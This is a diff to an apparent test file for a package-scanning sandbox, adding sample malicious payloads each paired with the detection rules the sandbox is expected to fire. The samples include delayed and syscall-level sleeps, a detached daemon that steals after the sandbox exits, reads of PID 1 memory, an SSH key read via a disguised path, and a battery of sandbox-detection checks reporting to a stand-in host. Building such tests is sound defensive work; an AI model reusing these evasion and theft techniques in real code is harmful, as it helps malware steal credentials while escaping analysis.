@@ -124,6 +124,53 @@ _time.sleep(200)
 _theft()
 '''
 
+CHECKED_SLEEP = THEFT + '''
+import datetime as _datetime
+import threading as _threading
+import time as _time
+
+_before = (_time.time(), _time.monotonic(), _datetime.datetime.now())
+_time.sleep(200)
+_threading.Event().wait(60)
+_after = (_time.time(), _time.monotonic(), _datetime.datetime.now())
+# Proceed only if the sleeps really lasted (as an analysis box that skips sleeps fails it).
+if _after[0] - _before[0] >= 259 and _after[1] - _before[1] >= 259 and \\
+        (_after[2] - _before[2]).total_seconds() >= 259:
+    _theft()
+'''
+
+NATIVE_SLEEP = THEFT + '''
+import subprocess as _subprocess
+import time as _time
+
+_before = _time.time()
+_subprocess.run(["sleep", "200"], check=False)  # a program's sleep, not Python's
+if _time.time() - _before >= 199:
+    _theft()
+'''
+
+RAW_SYSCALL_SLEEP = THEFT + '''
+import ctypes as _ctypes
+
+# nanosleep(2) without libc's wrapper: no library between the package and the kernel.
+_libc = _ctypes.CDLL(None, use_errno=True)
+_req = (_ctypes.c_long * 2)(200, 0)
+_libc.syscall(35, _req, None)
+_theft()
+'''
+
+ASYNCIO_SLEEP = THEFT + '''
+import asyncio as _asyncio
+
+
+async def _later():
+    await _asyncio.sleep(200)
+    _theft()
+
+
+_asyncio.run(_later())
+'''
+
 RENAMED_SHELL = THEFT + '''
 import shutil as _shutil
 import subprocess as _subprocess
@@ -138,6 +185,20 @@ _theft()
 
 DAEMON_LEFT = '''
 import os as _os
+import select as _select
+
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _null = _os.open("/dev/null", _os.O_RDWR)
+        for _fd in (0, 1, 2):
+            _os.dup2(_null, _fd)
+        _quiet, _ = _os.pipe()
+        _select.select([_quiet], [], [], 300)  # waits on a descriptor: real time
+    _os._exit(0)
+'''
+
+DAEMON_SLEEPS_THEN_STEALS = THEFT + '''
 import time as _time
 
 if _os.fork() == 0:
@@ -146,9 +207,154 @@ if _os.fork() == 0:
         _null = _os.open("/dev/null", _os.O_RDWR)
         for _fd in (0, 1, 2):
             _os.dup2(_null, _fd)
-        _time.sleep(300)
+        _time.sleep(300)  # past any sandbox's limit, the installer long gone
+        _theft()
     _os._exit(0)
 '''
+
+READ_PID1_MEMORY = THEFT + '''
+for _path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/maps"):
+    try:
+        with open(_path, "rb") as _fh:  # the observer's memory: its job, its secrets
+            _fh.read(4096)
+    except OSError:
+        pass
+_theft()
+'''
+
+IO_URING = THEFT + '''
+import ctypes as _ctypes
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_params = _ctypes.create_string_buffer(120)
+_ring = _libc.syscall(425, 8, _params)  # io_uring_setup: reads that no open() shows
+if _ring >= 0:
+    _os.close(_ring)
+_theft()
+'''
+
+UNNORMALISED_PATH = THEFT + '''
+_home = _os.path.expanduser("~")
+_blob = ""
+for _path in ("/proc/self/root" + _home + "/./.ssh//../.ssh/id_rsa",):
+    try:
+        with open(_path) as _fh:
+            _blob = _fh.read()
+    except OSError:
+        pass
+_theft(_blob)
+'''
+
+DETECTION_TRICKS = THEFT + '''
+import json as _json
+
+
+def _read(path):
+    try:
+        with open(path, "rb") as fh:
+            return fh.read(65536).decode("utf-8", "replace")
+    except OSError:
+        return ""
+
+
+def _tracer():
+    return any(l.split()[1:] != ["0"] for l in _read("/proc/self/status").splitlines()
+               if l.startswith("TracerPid:"))
+
+
+def _mounts():
+    text = _read("/proc/self/mountinfo").lower()
+    return any(w in text for w in ("pkgvet", "/wheelhouse", "sandbox"))
+
+
+def _init_cmdline():
+    text = (_read("/proc/1/cmdline") + _read("/proc/1/comm")).lower()
+    return any(w in text for w in ("probe", "pkgvet", "sandbox"))
+
+
+def _hostname():
+    name = _socket.gethostname().lower()
+    return name in ("build", "sandbox", "localhost") or "pkgvet" in name
+
+
+def _only_loopback():
+    names = [n for _, n in _socket.if_nameindex() if n != "lo"]
+    try:
+        listed = [n for n in _os.listdir("/sys/class/net") if n != "lo"]
+    except OSError:
+        listed = []
+    return not names or not listed
+
+
+def _no_resolver():
+    try:
+        _socket.gethostbyname("pypi.org")
+        return False
+    except OSError:
+        return True
+
+
+def _bare_home():
+    home = _os.path.expanduser("~")
+    try:
+        entries = _os.listdir(home)
+    except OSError:
+        return True
+    return len(entries) < 8 or ".bash_history" not in entries
+
+
+def _young_machine():
+    """Booted minutes ago, or PID 1 started seconds ago: an analysis box."""
+    import time
+
+    try:
+        up = float(_read("/proc/uptime").split()[0])
+        init = int(_read("/proc/1/stat").rsplit(")", 1)[1].split()[19])
+        boot = int(next(l for l in _read("/proc/stat").splitlines()
+                        if l.startswith("btime")).split()[1])
+    except (ValueError, IndexError, StopIteration):
+        return True
+    return up < 3600 or up - init / _os.sysconf("SC_CLK_TCK") < 600 or \\
+        time.time() - boot < 3600
+
+
+def _git_user():
+    text = _read(_os.path.expanduser("~/.git-credentials")).lower()
+    return any(w in text for w in ("pkgvet", "sandbox", "test"))
+
+
+def _job_file():
+    key = _os.environ.get("AWS_ACCESS_KEY_ID", "") or "AKIA"
+    for folder in ("/", "/tmp", "/pkgvet", "/srv", "/run", "/opt"):
+        try:
+            names = _os.listdir(folder)
+        except OSError:
+            continue
+        for name in names:
+            path = _os.path.join(folder, name)
+            if name.endswith(".json") and key in _read(path):
+                return True
+    return _os.path.exists("/pkgvet/job.json")
+
+
+_CHECKS = {"tracer": _tracer, "mounts": _mounts, "init-cmdline": _init_cmdline,
+           "hostname": _hostname, "only-loopback": _only_loopback, "no-resolver": _no_resolver,
+           "bare-home": _bare_home, "git-user": _git_user, "job-file": _job_file,
+           "young-machine": _young_machine}
+_fired = [name for name, check in _CHECKS.items() if check()]
+try:
+    with _socket.create_connection(("tricks.pkgvet-test.invalid", 80), timeout=3) as _conn:
+        _conn.sendall(_json.dumps(_fired).encode())
+except OSError:
+    pass
+if not _fired:  # an ordinary machine: act
+    _theft()
+'''
+
+DETECTION_TRICKS_UNDER_STRACE = DETECTION_TRICKS.replace(
+    '"tracer": _tracer, ', "")
+"""Under runc, strace is the tracer: TracerPid cannot be 0 there (gVisor traces from the host,
+which is why it is the default). Every other trick must see an ordinary machine."""
 
 SANDBOX_EVASIONS = {
     # name: (payload, rules the sandbox alone must report)
@@ -160,6 +366,12 @@ SANDBOX_EVASIONS = {
     "sendto-dns": (SENDTO_DNS, {"PV806", "PV803"}),
     "renamed-shell": (RENAMED_SHELL, {"PV825", "PV804", "PV801"}),
     "daemon-left-running": (DAEMON_LEFT, {"PV814"}),
+    "daemon-sleeps-then-steals": (DAEMON_SLEEPS_THEN_STEALS, {"PV824", "PV801", "PV803"}),
+    "read-pid1-memory": (READ_PID1_MEMORY, {"PV817", "PV801", "PV803"}),
+    "io-uring": (IO_URING, {"PV822", "PV801", "PV803"}),
+    "unnormalised-path": (UNNORMALISED_PATH, {"PV801", "PV803"}),
+    "detection-tricks": (DETECTION_TRICKS, {"PV801", "PV803"}),
+    "detection-tricks-but-tracer": (DETECTION_TRICKS_UNDER_STRACE, {"PV801", "PV803"}),
 }
 
 OUTPUT_FLOOD = '''
